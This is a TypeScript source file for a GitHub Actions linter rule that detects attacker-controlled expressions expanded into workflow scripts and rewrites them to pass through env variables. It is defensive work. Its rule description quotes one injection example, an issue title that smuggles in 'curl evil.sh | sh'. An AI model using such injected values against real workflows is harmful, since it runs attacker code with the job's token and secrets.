import { asReference, flows, type Reference, referenceText } from '../expressions/analysis.ts';
import type { TextEdit } from '../finding.ts';
import { appendToMap, insertAfterKey } from '../fixes.ts';
import { lookupAction, type Taint, taintOf } from '../knowledge/index.ts';
import type { Document, Job, Step, StringValue } from '../model/types.ts';
import type { Severity } from '../severity.ts';
import { pairOf } from '../source/yaml.ts';
import {
  expressionsIn,
  type LocatedExpression,
  lookupEnv,
  PRIVILEGED_UNTRUSTED_TRIGGERS,
  triggerNames,
  typedInputs,
} from './shared.ts';
import type { Rule, RuleContext } from './types.ts';

export interface TaintedUse {
  readonly located: LocatedExpression;
  readonly taint: Taint;
  /** The attacker-controlled reference (through env when `via` is set). */
  readonly source: string;
  readonly via: string | undefined;
  readonly indirect: boolean;
}

/** The tainted references an expression expands, directly or through `env.X` set from a tainted expression. */
export function taintedUses(
  ctx: RuleContext,
  job: Job | undefined,
  step: Step | undefined,
  located: LocatedExpression,
  typed: ReadonlySet<string>,
): TaintedUse[] {
  const out: TaintedUse[] = [];
  for (const flow of flows(located.expr)) {
    const taint = taintOf(flow.ref, flow.whole, typed);
    if (taint !== undefined) {
      out.push({ located, taint, source: referenceText(flow.ref), via: undefined, indirect: flow.indirect });
      continue;
    }
    const name = flow.ref.root === 'env' ? flow.ref.path[0] : undefined;
    if (typeof name !== 'string') continue;
    const env = lookupEnv(ctx.doc, job, step, name);
    if (env?.value === undefined) continue;
    for (const inner of expressionsIn(ctx.file, env.value)) {
      for (const f of flows(inner.expr)) {
        const t = taintOf(f.ref, f.whole, typed);
        if (t !== undefined) {
          out.push({ located, taint: t, source: referenceText(f.ref), via: `env.${name}`, indirect: true });
        }
      }
    }
  }
  return out;
}

function describe(source: string): string {
  const known: Record<string, string> = {
    'github.event.issue.title': 'the issue title',
    'github.event.issue.body': 'the issue body',
    'github.event.pull_request.title': 'the pull request title',
    'github.event.pull_request.body': 'the pull request body',
    'github.event.pull_request.head.ref': 'the pull request branch name',
    'github.event.pull_request.head.label': 'the pull request head label',
    'github.event.comment.body': 'the comment body',
    'github.event.review.body': 'the review body',
    'github.event.head_commit.message': 'the commit message',
    'github.head_ref': 'the pull request branch name',
    'github.event.workflow_run.head_branch': 'the triggering run branch name',
  };
  return known[source] ?? source;
}

type Shell = 'bash' | 'pwsh' | 'other';

function shellOf(doc: Document, job: Job | undefined, step: Step): Shell {
  const shell = (step.shell ?? '').trim().split(/\s+/)[0] ?? '';
  if (shell === '') {
    if (doc.kind === 'action') return 'other';
    const windows = job?.runsOn.labels.some((l) => /windows/i.test(l)) ?? false;
    return job?.runsOn.dynamic ? 'other' : windows ? 'pwsh' : 'bash';
  }
  if (shell === 'bash' || shell === 'sh') return 'bash';
  if (shell === 'pwsh' || shell === 'powershell') return 'pwsh';
  return 'other';
}

/** The quoting state of a POSIX shell script at an offset; undefined when it cannot be told (heredocs). */
function quoteState(script: string, offset: number): 'none' | 'single' | 'double' | undefined {
  if (/<</.test(script.slice(0, offset))) return undefined;
  let state: 'none' | 'single' | 'double' = 'none';
  for (let i = 0; i < offset; i++) {
    const c = script[i];
    if (state === 'single') {
      if (c === "'") state = 'none';
    } else if (state === 'double') {
      if (c === '\\') i++;
      else if (c === '"') state = 'none';
    } else if (c === '\\') i++;
    else if (c === "'") state = 'single';
    else if (c === '"') state = 'double';
    else if (c === '#' && (i === 0 || /\s/.test(script[i - 1] as string))) {
      const nl = script.indexOf('\n', i);
      if (nl < 0 || nl >= offset) return undefined; // inside a comment
      i = nl;
    }
  }
  return state;
}

function envName(ref: Reference): string {
  const segments = [ref.root, ...ref.path].filter((s): s is string => typeof s === 'string' && s !== '*');
  while (segments[0] === 'github' || (segments[0] === 'event' && segments.length > 1)) segments.shift();
  let name = segments
    .join('_')
    .toUpperCase()
    .replace(/[^A-Z0-9_]/g, '_');
  if (name === '' || /^[0-9]/.test(name)) name = `V_${name}`;
  return name;
}

/** The env-indirection fix for one step: each simple tainted `${{ x }}` becomes a shell variable set in `env:`. */
function envFix(
  ctx: RuleContext,
  job: Job | undefined,
  step: Step,
  script: StringValue,
  uses: readonly TaintedUse[],
): { description: string; edits: TextEdit[] } | undefined {
  const shell = shellOf(ctx.doc, job, step);
  if (shell === 'other' || step.run === undefined) return undefined;
  if (step.envNode?.flow) return undefined;
  if (step.envNode === undefined && pairOf(step.node, 'env') !== null) return undefined; // env: set to something else
  const names = new Map<string, string>(); // expression text → env name
  const taken = new Map(step.env.map((e) => [e.name, e.value?.value]));
  const edits: TextEdit[] = [];
  for (const use of uses) {
    const { located } = use;
    const ref = asReference(located.expr);
    if (ref === undefined || !located.exact || use.via !== undefined) return undefined;
    const valueText = `\${{ ${located.inner.trim()} }}`;
    let name = names.get(valueText);
    if (name === undefined) {
      const base = envName(ref);
      name = base;
      for (let k = 2; taken.has(name) && taken.get(name) !== valueText; k++) name = `${base}_${k}`;
      names.set(valueText, name);
    }
    let replacement: string;
    let start = located.span.start;
    let end = located.span.end;
    if (shell === 'bash') {
      const state = quoteState(script.value, located.valueStart);
      if (state === undefined) return undefined;
      const text = ctx.file.text;
      if (state === 'single' && text[start - 1] === "'" && text[end] === "'") {
        // '${{ x }}' → "${X}"
        start--;
        end++;
        replacement = `"\${${name}}"`;
      } else {
        replacement = state === 'double' ? `\${${name}}` : state === 'single' ? `'"\${${name}}"'` : `"\${${name}}"`;
      }
    } else {
      const state = quoteState(script.value, located.valueStart);
      if (state !== 'none' && state !== 'double') return undefined;
      replacement = `$env:${name}`;
    }
    edits.push({ start, end, text: replacement });
  }
  const additions = [...names].filter(([value, name]) => taken.get(name) !== value);
  if (additions.length > 0) {
    const lines = additions.map(([value, name]) => `${name}: ${value}`);
    const edit =
      step.envNode !== undefined
        ? appendToMap(ctx.file, step.envNode, lines)
        : insertAfterKey(ctx.file, step.node, 'run', ['env:', ...lines.map((l) => `  ${l}`)]);
    if (edit === undefined) return undefined;
    edits.push(edit);
  }
  return {
    description: `pass ${[...names.values()].join(', ')} through env instead of expanding ${names.size === 1 ? 'it' : 'them'} into the script`,
    edits,
  };
}

export const templateInjection: Rule = {
  id: 'template-injection',
  title: 'attacker-controllable expression expanded into a script',
  severity: 'critical',
  confidence: 'high',
  scope: 'both',
  autofix: true,
  description:
    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JavaScript template
    'GitHub expands `${{ … }}` into a `run:` script (or an actions/github-script `script:`) before the shell or Node sees it, so a value someone else chose becomes code: an issue titled `"; curl evil.sh | sh; #` runs in your job, with its token and secrets. Attacker-controllable contexts include issue, pull request, comment, review and discussion titles and bodies, pull request head refs and labels, commit messages and author names, `github.head_ref`, wiki page names and `workflow_run` branch names; `inputs.*`, `github.event.inputs.*` and `repository_dispatch` payloads are controlled by whoever triggers or calls the workflow. Expressions are parsed, not pattern-matched: `format()`, `join()`, `toJSON()`, `||` and `env.X` set from such a value are followed; comparisons, `contains()` and typed (boolean, number, choice) inputs are safe.',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JavaScript template
  fix: 'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ github.event.issue.title }} }` then `echo "$TITLE"` (in github-script: `process.env.TITLE`). `airlock audit --fix` rewrites simple cases in bash and pwsh steps.',
  check(ctx) {
    const doc = ctx.doc;
    const typed = typedInputs(doc);
    const privileged = [...triggerNames(doc)].some((t) => PRIVILEGED_UNTRUSTED_TRIGGERS.has(t));
    const steps =
      doc.kind === 'action'
        ? doc.steps.map((s) => ({ job: undefined, step: s }))
        : doc.jobs.flatMap((j) => j.steps.map((s) => ({ job: j, step: s })));
    for (const { job, step } of steps) {
      const targets: Array<{ script: StringValue; where: string }> = [];
      if (step.run !== undefined) targets.push({ script: step.run, where: 'run' });
      if (step.uses !== undefined) {
        const known = lookupAction(step.uses);
        const input = known?.scriptInput;
        const script = input === undefined ? undefined : step.with.get(input);
        if (script !== undefined) targets.push({ script, where: `${known?.uses} ${input}` });
      }
      for (const { script, where } of targets) {
        const uses: TaintedUse[] = [];
        for (const located of expressionsIn(ctx.file, script)) {
          uses.push(...taintedUses(ctx, job, step, located, typed));
        }
        if (uses.length === 0) continue;
        const fix = where === 'run' ? envFix(ctx, job, step, script, uses) : undefined;
        const seen = new Set<string>();
        uses.forEach((use, i) => {
          const key = `${use.located.span.start}:${use.source}`;
          if (seen.has(key)) return;
          seen.add(key);
          const severity: Severity =
            use.taint === 'attacker' ? (privileged ? 'critical' : 'high') : doc.kind === 'action' ? 'medium' : 'medium';
          const who =
            use.taint === 'attacker'
              ? `${describe(use.source)}, which anyone who can open an issue or pull request can set,`
              : `${use.source}, which whoever triggers or calls ${doc.kind === 'action' ? 'the action' : 'the workflow'} chooses,`;
          ctx.report({
            span: use.located.span,
            within: step.span,
            severity,
            confidence: use.indirect ? 'medium' : 'high',
            message: `${step.label}: ${use.located.text} expands ${who}${use.via ? ` (through ${use.via})` : ''} into the ${where} script, where it runs as code. Pass it through env and quote it.`,
            ...(i === 0 && fix !== undefined ? { fix } : {}),
          });
        });
      }
    }
  },
};
